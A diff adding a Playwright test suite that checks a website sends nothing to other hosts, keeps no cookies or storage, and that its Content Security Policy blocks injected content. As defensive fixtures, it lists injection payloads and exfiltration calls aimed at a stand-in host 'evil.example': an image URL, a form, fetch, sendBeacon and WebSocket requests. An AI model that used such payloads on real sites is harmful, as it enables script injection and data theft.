@@ -1,0 +1,232 @@
+import type { Page } from '@playwright/test';
+import { allPages, contactForm, expect, home, NOT_FOUND, root, test } from './fixtures.ts';
+
+declare global {
+  interface Window {
+    /** What the page did that leaves the page or stays behind. */
+    traces: string[];
+    /** The directives that refused something. */
+    refused: string[];
+  }
+}
+
+test.describe('Nothing is sent and nothing is kept', () => {
+  test.use({ expectedErrors: [NOT_FOUND] });
+
+  for (const path of allPages) {
+    test(`${path}, all of it opened and used`, async ({ page, context, baseURL }) => {
+      const own = new URL(baseURL ?? '').origin;
+      const foreign: string[] = [];
+      const carrying: string[] = [];
+      context.on('request', (request) => {
+        if (new URL(request.url()).origin !== own) foreign.push(request.url());
+        if (request.method() !== 'GET' || request.postData()) carrying.push(request.url());
+      });
+      page.on('websocket', (socket) => foreign.push(socket.url()));
+      await page.addInitScript(watch);
+      await page.goto(path, { waitUntil: 'networkidle' });
+      await useEverything(page);
+      if (path === home) {
+        const form = contactForm(page);
+        await form.ready();
+        await form.fill();
+        await form.button.click();
+        await expect(form.status).not.toBeEmpty();
+      }
+      await page.waitForLoadState('networkidle');
+      expect(foreign).toEqual([]);
+      expect(carrying).toEqual([]);
+      expect(await page.evaluate(() => window.traces)).toEqual([]);
+      expect(await context.cookies()).toEqual([]);
+      expect(
+        await page.evaluate(async () => ({
+          local: localStorage.length,
+          session: sessionStorage.length,
+          databases: await indexedDB.databases(),
+          caches: await caches.keys(),
+          workers: (await navigator.serviceWorker.getRegistrations()).length,
+        })),
+      ).toEqual({ local: 0, session: 0, databases: [], caches: [], workers: 0 });
+    });
+  }
+
+  test('the watch sees what it watches for', async ({ page }) => {
+    await page.addInitScript(watch);
+    await page.goto('agentics');
+    await page.evaluate(() => {
+      Reflect.set(document, 'cookie', 'a=b');
+      cookieStore.set('a', 'b');
+      localStorage.setItem('a', 'b');
+    });
+    expect(await page.evaluate(() => window.traces)).toEqual(['cookie', 'cookieStore', 'Storage.setItem']);
+  });
+});
+
+/** In the page, before its scripts: notes every call that could carry something away or keep it. */
+function watch(): void {
+  window.traces = [];
+  const note = (owner: object, name: string, label: string) => {
+    const original = Reflect.get(owner, name) as (...all: unknown[]) => unknown;
+    Object.defineProperty(owner, name, {
+      configurable: true,
+      value(this: unknown, ...all: unknown[]) {
+        window.traces.push(label);
+        return Reflect.apply(original, this, all);
+      },
+    });
+  };
+  note(window, 'fetch', 'fetch');
+  note(XMLHttpRequest.prototype, 'open', 'XMLHttpRequest');
+  note(Navigator.prototype, 'sendBeacon', 'sendBeacon');
+  note(CookieStore.prototype, 'set', 'cookieStore');
+  note(Storage.prototype, 'setItem', 'Storage.setItem');
+  note(IDBFactory.prototype, 'open', 'indexedDB');
+  note(CacheStorage.prototype, 'open', 'caches');
+  note(ServiceWorkerContainer.prototype, 'register', 'serviceWorker');
+  for (const name of ['WebSocket', 'EventSource', 'RTCPeerConnection', 'WebTransport'] as const) {
+    Object.defineProperty(window, name, {
+      value: class {
+        constructor() {
+          window.traces.push(name);
+        }
+      },
+    });
+  }
+  Object.defineProperty(Document.prototype, 'cookie', { get: () => '', set: () => window.traces.push('cookie') });
+}
+
+/** Goes through the page as somebody would who tries all of it, without leaving it. */
+async function useEverything(page: Page): Promise<void> {
+  await page.setViewportSize({ width: 390, height: 844 });
+  const menu = page.getByRole('button', { name: 'Menu' });
+  await menu.click();
+  await page.keyboard.press('Escape');
+  for (const link of await page.getByRole('link').all()) {
+    if (await link.isVisible()) await link.focus();
+  }
+  await page.setViewportSize({ width: 1280, height: 800 });
+  for (const link of await page.getByRole('main').getByRole('link').all()) {
+    if (await link.isVisible()) await link.hover();
+  }
+  await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: 'instant' }));
+}
+
+const META = /<meta http-equiv="Content-Security-Policy"[^>]*>/;
+const EVIL = 'https://evil.example';
+
+/** What somebody might get into a page, and the directive that refuses it. */
+const injected: [what: string, html: string, directive: string][] = [
+  ['an inline script', '<script>document.title = "taken"</script>', 'script-src-elem'],
+  ['a script of another host', `<script src="${EVIL}/x.js"></script>`, 'script-src-elem'],
+  ['an inline handler', '<p tabindex="0" onfocus="document.title = `taken`" autofocus>x</p>', 'script-src-attr'],
+  ['an inline style', '<style>main { display: none }</style>', 'style-src-elem'],
+  ['a style attribute', '<p style="position: fixed; inset: 0">x</p>', 'style-src-attr'],
+  ['an image that carries something away', `<img alt="" src="${EVIL}/?typed=secret">`, 'img-src'],
+  ['a frame', `<iframe title="x" src="${EVIL}/"></iframe>`, 'frame-src'],
+  ['an object', `<object data="${EVIL}/"></object>`, 'object-src'],
+  ['another base for its links', `<base href="${EVIL}/">`, 'base-uri'],
+  [
+    'a form that posts',
+    `<form method="post" action="${EVIL}/"><input name="typed" value="secret" aria-label="x"></form>`,
+    'form-action',
+  ],
+];
+
+/** What a script that got in nevertheless might try. */
+const calls: [what: string, call: (address: string) => unknown, directive: string][] = [
+  ['fetch', (address) => fetch(address).catch(() => {}), 'connect-src'],
+  ['fetch of its own host', () => fetch('/', { method: 'POST', body: 'typed' }).catch(() => {}), 'connect-src'],
+  [
+    'XMLHttpRequest',
+    (address) => {
+      const request = new XMLHttpRequest();
+      request.open('POST', address);
+      request.send('typed');
+    },
+    'connect-src',
+  ],
+  ['sendBeacon', (address) => void navigator.sendBeacon(address, 'typed'), 'connect-src'],
+  ['WebSocket', (address) => void new WebSocket(address.replace('https', 'wss')), 'connect-src'],
+  ['EventSource', (address) => void new EventSource(address), 'connect-src'],
+  [
+    'an image',
+    (address) => {
+      new Image().src = `${address}/?typed`;
+    },
+    'img-src',
+  ],
+  [
+    'markup from text',
+    () => {
+      try {
+        document.body.innerHTML = '<p>taken</p>';
+      } catch {}
+    },
+    'require-trusted-types-for',
+  ],
+];
+
+for (const from of ['its headers', 'its own meta alone'] as const) {
+  test.describe(`The policy, from ${from}, refuses`, () => {
+    test.use({ expectedErrors: [/policy: |Content Security Policy|TrustedHTML|Fetch API cannot load|net::ERR/] });
+
+    for (const [what, html, directive] of injected) {
+      test(what, async ({ page }) => {
+        const reached = await open(page, from, html);
+        await page.evaluate(() => document.querySelector<HTMLFormElement>('form[action]')?.submit());
+        await expect.poll(() => page.evaluate(() => window.refused)).toContain(directive);
+        expect(await page.title()).not.toBe('taken');
+        expect(await page.evaluate(() => document.querySelector('main')?.checkVisibility())).toBe(true);
+        expect(reached).toEqual([]);
+      });
+    }
+
+    for (const [what, call, directive] of calls) {
+      test(what, async ({ page }) => {
+        const reached = await open(page, from, '');
+        await page.evaluate(call, EVIL);
+        await expect.poll(() => page.evaluate(() => window.refused)).toContain(directive);
+        await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+        expect(reached).toEqual([]);
+      });
+    }
+  });
+}
+
+test('no other page may frame it', async ({ page, baseURL }) => {
+  const frame = new URL('agentics', baseURL).href;
+  await page.route('http://other.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${frame}"></iframe>` }),
+  );
+  await page.goto('http://other.example/');
+  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
+});
+
+/** A page with something injected into it. Gives what reached another host, and what its own was asked with. */
+async function open(page: Page, from: string, html: string): Promise<string[]> {
+  const reached: string[] = [];
+  // What the policy refuses never comes as far as this.
+  await page.context().route('**', (route) => {
+    const request = route.request();
+    if (!request.url().startsWith(EVIL) && request.method() === 'GET') return route.fallback();
+    reached.push(request.url());
+    return route.abort();
+  });
+  await page.addInitScript(() => {
+    window.refused = [];
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused.push(effectiveDirective));
+  });
+  await page.route(`**${root}/agentics`, async (route) => {
+    const response = await route.fetch();
+    const { 'content-security-policy': policy, ...others } = response.headers();
+    const body = (await response.text()).replace('</main>', `${html}</main>`);
+    await route.fulfill({
+      response,
+      ...(from === 'its headers'
+        ? { headers: { ...others, 'content-security-policy': policy ?? '' }, body: body.replace(META, '') }
+        : { headers: others, body }),
+    });
+  });
+  await page.goto('agentics');
+  return reached;
+}
